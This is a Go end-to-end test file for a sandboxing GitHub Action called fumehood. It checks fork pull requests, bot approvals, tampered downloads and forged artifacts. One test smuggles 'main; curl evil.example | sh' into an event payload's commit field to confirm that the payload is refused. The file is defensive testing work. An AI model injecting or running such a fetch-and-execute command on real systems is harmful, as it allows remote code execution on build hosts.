// SPDX-License-Identifier: Apache-2.0

//go:build linux && e2e

package main

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/fumehood/fumehood/pkg/github/githubtest"
)

// show is a workflow's command in the tests: it is fast, and its output differs
// between the pull request and the base.
const show = "cat notes/new.txt"

// (a) A pull request of the same repository, from the event to the comment, with
// the release downloaded once and then found in the tool cache.
func TestActSameRepository(t *testing.T) {
	s := newStage(t, false, nil, nil)
	s.edit("one-job.yml", "run: npm test", "run: "+show)
	for range 2 {
		r := s.play("one-job.yml", "pull_request", s.event("pull_request.opened", nil))
		if r.code != 0 {
			t.Errorf("exit %d\n%s", r.code, r.log)
		}
		want(t, "comment", s.comment().Body, s.head[:12], show, "1 succeeded")
		want(t, "summary", r.summary, show)
	}
	if len(s.downloads.paths) != 1 {
		t.Errorf("downloads %q, want one", s.downloads.paths)
	}
}

// (b) A fork's pull request through both workflows: the first has a read-only token
// and uploads an artifact, the second posts and checks out nothing.
func TestActFork(t *testing.T) {
	s := newStage(t, true, nil, nil)
	s.edit("fumehood.yml", "run: go vet ./...", "run: "+show, "run: go test ./...", "run: cat README.md")
	s.permit("contents:read", "pull_requests:read")
	r := s.play("fumehood.yml", "pull_request", s.event("pull_request.opened.fork", nil))
	if r.code != 0 || len(s.gh.Comments(prNumber)) != 0 {
		t.Fatalf("exit %d, %d comments\n%s", r.code, len(s.gh.Comments(prNumber)), r.log)
	}
	want(t, "summary", r.summary, show, "2 succeeded")
	s.tellAll(t, "success", "2 succeeded")
	want(t, "comment", s.comment().Body, show, s.head[:12], "Self-reported", "sealed and complete")
	// A run whose workflow its author can change never makes a check succeed.
	if runs := s.gh.CheckRuns(s.head); len(runs) != 1 || runs[0].Conclusion != "neutral" {
		t.Errorf("check runs %+v", runs)
	}
}

// tellAll runs the workflow that reports the last run.
func (s *stage) tellAll(t *testing.T, conclusion string, pieces ...string) actRun {
	t.Helper()
	ran := s.runID
	s.addRun("pull_request", conclusion)
	s.permit("contents:read", "pull_requests:write", "actions:read", "checks:write")
	name := "workflow_run.completed.pr"
	if s.fork {
		name += ".fork"
	}
	payload := s.event(name, func(p map[string]any) { p["workflow_run"].(map[string]any)["conclusion"] = conclusion })
	r := s.play("fumehood-report.yml", "workflow_run", payload)
	s.runID = ran
	if !strings.Contains(r.log, "Job succeeded") && !strings.Contains(r.log, "Job failed") {
		t.Fatalf("the report's job did not run\n%s", r.log)
	}
	want(t, "comment", s.comment().Body, pieces...)
	return r
}

// asks comments on the pull request and runs the bot's workflow.
func (s *stage) asks(login, body string) actRun {
	s.t.Helper()
	id := s.gh.AddComment(prNumber, login, body)
	s.permit("contents:read", "pull_requests:write", "actions:read")
	return s.play("bot.yml", "issue_comment", s.commentEvent(id))
}

// (c) /fumehood run and approve by a maintainer, a contributor, a bot and the author,
// in three jobs, on a fork's pull request.
func TestActBot(t *testing.T) {
	s := newStage(t, true, askRule, nil)
	s.gh.Permit("hubot", "triage")
	for _, login := range []string{"hubot", "octocat", "reviewer[bot]"} {
		r := s.asks(login, "/fumehood run "+show)
		if strings.Contains(r.log, "running 1 proposals") || strings.Contains(r.log, "bot/run") && strings.Contains(r.log, "bot/run| 🏁  Job succeeded") {
			t.Errorf("%s started a run\n%s", login, r.log)
		}
	}
	r := s.asks("Codertocat", "/fumehood run\n\n```fumehood\n"+askPlan+"```\n")
	body := s.comment().Body
	want(t, "comment", body, "cat README.md", "house.sort", "/fumehood approve "+s.head[:12])
	if strings.Contains(body, "Self-reported") {
		t.Errorf("a run of the bot's own workflow is no self-report\n%s", r.log)
	}
	for _, login := range []string{"hubot", "octocat", "reviewer[bot]"} {
		s.later()
		s.asks(login, "/fumehood approve "+s.head[:12])
		want(t, "comment", s.comment().Body, "house.sort", "1 waiting")
	}
	s.later()
	r = s.asks("Codertocat", "/fumehood approve "+s.head[:12])
	want(t, "comment after "+r.log, s.comment().Body, "approved by", "2 succeeded")
}

// (d) The head moves between run and report.
func TestActHeadMoved(t *testing.T) {
	s := newStage(t, true, nil, nil)
	s.edit("fumehood.yml", "run: go vet ./...", "run: "+show, "run: go test ./...", "run: cat README.md")
	s.play("fumehood.yml", "pull_request", s.event("pull_request.opened.fork", nil))
	moved := githubtest.SHA("pushed meanwhile")
	s.gh.AddCommit(moved)
	s.gh.Move(prNumber, moved)
	s.tellAll(t, "success", "newer commit", s.head[:12], moved[:12])
}

// (e) THREATS 27, 31: wrong bytes from the release server and in the payload are refused. In
// the tool cache they are replaced.
func TestActTampered(t *testing.T) {
	s := newStage(t, false, nil, nil)
	s.edit("one-job.yml", "run: npm test", "run: "+show)
	opened := s.event("pull_request.opened", nil)
	play := func() actRun { return s.play("one-job.yml", "pull_request", opened) }
	good := s.releases.Config.Handler
	s.releases.Config.Handler = flipping(good)
	s.refuses("the server", opened, "install.digest")
	s.releases.Config.Handler = good

	payload := bytes.Replace(s.event("pull_request.opened", nil), []byte(s.head), []byte("main; curl evil.example | sh"), 1)
	s.refuses("the payload", payload, "event.malformed")

	cached := filepath.Join(s.tools, "fumehood", releaseVersion, "amd64", "fumehood_"+releaseVersion+"_linux_amd64.tar.gz")
	data, err := os.ReadFile(filepath.Join(shared, "release", filepath.Base(cached)))
	s.must(err)
	s.must(os.MkdirAll(filepath.Dir(cached), 0o755))
	data[len(data)/2] ^= 1
	s.must(os.WriteFile(cached, data, 0o644))
	before := len(s.downloads.paths)
	r := play()
	if r.code != 0 || len(s.downloads.paths) != before+1 {
		t.Errorf("exit %d, %d downloads, want one\n%s", r.code, len(s.downloads.paths)-before, r.log)
	}
	want(t, "the cache", r.log, "install.cache", "in the tool cache has SHA-256")
	want(t, "comment", s.comment().Body, show, "1 succeeded")
}

// refuses plays the job, which must fail without a comment each time, until its log has the
// pieces: the runner does not wait for the last output of a step that fails
// (host_environment.go, exec), so that on a busy host a log can end before the message.
func (s *stage) refuses(what string, payload []byte, pieces ...string) {
	s.t.Helper()
	var r actRun
	for try := 0; try < 4 && (try == 0 || !containsAll(r.log, pieces)); try++ {
		r = s.play("one-job.yml", "pull_request", payload)
		if r.code == 0 || len(s.gh.CommentsBy(prNumber, githubtest.ActionsBot)) != 0 {
			s.t.Fatalf("%s: exit %d, %d comments\n%s", what, r.code, len(s.gh.Comments(prNumber)), r.log)
		}
	}
	want(s.t, what, r.log, pieces...)
}

func containsAll(text string, pieces []string) bool {
	return !slices.ContainsFunc(pieces, func(p string) bool { return !strings.Contains(text, p) })
}

// At a commit that is built from source, a job uses the build that a step before restored,
// here a copy in place of actions/cache. The variable is set for fumehood's step only.
func TestActRestoredBuild(t *testing.T) {
	s := newStage(t, false, nil, nil)
	root, err := filepath.Abs("../..")
	s.must(err)
	for _, name := range []string{"go.mod", "go.sum", "LICENSE", "cmd", "pkg", "policies", "testdata"} {
		out, err := exec.CommandContext(t.Context(), "cp", "-r", filepath.Join(root, name), s.action).CombinedOutput()
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
	}
	s.must(os.WriteFile(filepath.Join(s.action, "release.env"), []byte("VERSION=source\n"), 0o644))
	build := exec.CommandContext(t.Context(), "go", "run", "./cmd/fumehood-release", "--arch", "amd64", "--out", s.path("built"))
	build.Dir = root
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	s.edit("one-job.yml", "run: npm test", "run: "+show, "      - uses: fumehood/fumehood@v1", `      - run: cp -r `+s.path("built")+` "$RUNNER_TEMP/fumehood-source"
      - uses: fumehood/fumehood@v1
        env:
          FUMEHOOD_SOURCE_CACHE: ${{ runner.temp }}/fumehood-source
     `)
	r := s.play("one-job.yml", "pull_request", s.event("pull_request.opened", nil))
	if r.code != 0 || len(s.downloads.paths) != 0 {
		t.Errorf("exit %d, downloads %q\n%s", r.code, s.downloads.paths, r.log)
	}
	want(t, "log", r.log, "fumehood source for linux/amd64, SHA-256 ", "/fumehood-source\n")
	want(t, "comment", s.comment().Body, show, "1 succeeded")
}

// (e) An artifact that was altered in transit is not shown.
func TestActTamperedArtifact(t *testing.T) {
	s := newStage(t, true, nil, nil)
	s.edit("fumehood.yml", "run: go vet ./...", "run: "+show, "run: go test ./...", "run: cat README.md")
	s.play("fumehood.yml", "pull_request", s.event("pull_request.opened.fork", nil))
	zips, err := filepath.Glob(filepath.Join(s.artifacts, "*", "fumehood", "*.zip"))
	if err != nil || len(zips) != 1 {
		t.Fatalf("artifacts %q (%v)", zips, err)
	}
	data, err := os.ReadFile(zips[0])
	s.must(err)
	s.must(os.WriteFile(zips[0], rezipped(t, data, func(f map[string][]byte) {
		f[reportName] = bytes.Replace(f[reportName], []byte(`"exit_code": 0`), []byte(`"exit_code": 1`), 1)
	}), 0o644))
	s.tellAll(t, "success", "report.malformed")
	if strings.Contains(s.comment().Body, show) {
		t.Errorf("the comment shows what was forged:\n%s", s.comment().Body)
	}
}

// (f) Cancelled during the run, as the real runner does it, with an interrupt to
// the step's process: the sandbox is removed, the log is sealed, and the comment
// says cancelled.
func TestActCancelled(t *testing.T) {
	s := newStage(t, false, nil, nil)
	s.edit("one-job.yml", "run: npm test", "run: sleep 300")
	cmd := s.command("one-job.yml", "pull_request", s.event("pull_request.opened", nil))
	var log bytes.Buffer
	cmd.Stdout, cmd.Stderr = &log, &log
	s.must(cmd.Start())
	pid := waitForSleeper(t, s.installed)
	s.must(syscall.Kill(pid, syscall.SIGINT))
	_ = cmd.Wait()
	want(t, "comment", s.comment().Body, "ancelled")
	s.wantSealed(t)
	checkNothingRuns(t, s.installed)
}

// (f) The runner kills the step with SIGKILL. The root process notices, and leaves
// nothing behind.
func TestActKilled(t *testing.T) {
	s := newStage(t, false, nil, nil)
	s.edit("one-job.yml", "run: npm test", "run: sleep 300")
	cmd := s.command("one-job.yml", "pull_request", s.event("pull_request.opened", nil))
	s.must(cmd.Start())
	pid := waitForSleeper(t, s.installed)
	s.must(syscall.Kill(pid, syscall.SIGKILL))
	_ = cmd.Wait()
	checkNothingRuns(t, s.installed)
}

// waitForSleeper waits until the command has started, according to the log of the
// root process, and returns the process of the action's step.
func waitForSleeper(t *testing.T, installed string) int {
	t.Helper()
	step := 0
	wait(t, "the command's start", func() bool {
		started := false
		all, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, path := range all {
			data, _ := os.ReadFile(path)
			words := strings.Split(strings.TrimRight(string(data), "\x00"), "\x00")
			if !strings.HasPrefix(words[0], installed) {
				continue
			}
			if len(words) == 2 && words[1] == "action" {
				fmt.Sscanf(path, "/proc/%d/cmdline", &step)
			}
			if i := slices.Index(words, "--audit"); i > 0 {
				log, _ := os.ReadFile(words[i+1])
				started = bytes.Contains(log, []byte(`"kind":"start"`))
			}
		}
		return step > 0 && started
	})
	time.Sleep(500 * time.Millisecond)
	return step
}

// wantSealed verifies the log of the run's artifact.
func (s *stage) wantSealed(t *testing.T) {
	t.Helper()
	zips, err := filepath.Glob(filepath.Join(s.artifacts, "*", "fumehood", "*.zip"))
	if err != nil || len(zips) != 1 {
		t.Fatalf("artifacts %q (%v)", zips, err)
	}
	data, err := os.ReadFile(zips[0])
	s.must(err)
	log := s.path("audit.jsonl")
	rezipped(t, data, func(files map[string][]byte) { s.must(os.WriteFile(log, files[auditName], 0o644)) })
	out, _ := exec.Command(s.binary, "verify", log, "--untrusted-key").CombinedOutput()
	want(t, "verdict", string(out), "consistent and sealed")
}

// (g) A matrix of three plans into one comment with three sections.
func TestActMatrix(t *testing.T) {
	s := newStage(t, false, nil, nil)
	s.edit("matrix.yml", "npx --no-install eslint .", "cat README.md", "npm test", show, "npx --no-install tsc --noEmit", "grep -q nothing README.md")
	r := s.play("matrix.yml", "pull_request", s.event("pull_request.opened", nil))
	want(t, "comment after "+r.log, s.comment().Body, "lint", "unit", "types", "cat README.md", show, "2 succeeded", "1 failed")
}

// flipping changes one byte in the middle of next's responses.
func flipping(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		recorded := httptest.NewRecorder()
		next.ServeHTTP(recorded, r)
		body := recorded.Body.Bytes()
		body[len(body)/2] ^= 1
		w.Write(body)
	})
}

// rezipped unpacks a zip, lets change modify the files, and packs them again.
func rezipped(t *testing.T, data []byte, change func(map[string][]byte)) []byte {
	t.Helper()
	r, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{}
	for _, f := range r.File {
		content, err := r.Open(f.Name)
		if err != nil {
			t.Fatal(err)
		}
		if files[f.Name], err = io.ReadAll(content); err != nil {
			t.Fatal(err)
		}
	}
	change(files)
	return zipped(t, files)
}

// (h) As a user who is not root and may use sudo, as on hosted runners: the step keeps
// running as that user, the sandbox's supervisor is root, and its files can be uploaded.
func TestActWithSudo(t *testing.T) {
	nobodyMaySudo(t)
	s := newStage(t, false, nil, nil)
	s.user = 65534
	s.edit("one-job.yml", "run: npm test", "run: "+show)
	r := s.play("one-job.yml", "pull_request", s.event("pull_request.opened", nil))
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.log)
	}
	want(t, "comment", s.comment().Body, s.head[:12], show, "1 succeeded")
	s.wantSealed(t)
}

// (h) Without sudo nothing runs, and the log says what to do.
func TestActWithoutSudo(t *testing.T) {
	s := newStage(t, false, nil, nil)
	s.user = 65534
	s.edit("one-job.yml", "run: npm test", "run: "+show)
	s.refuses("no sudo", s.event("pull_request.opened", nil), "install.root", "NOPASSWD")
}
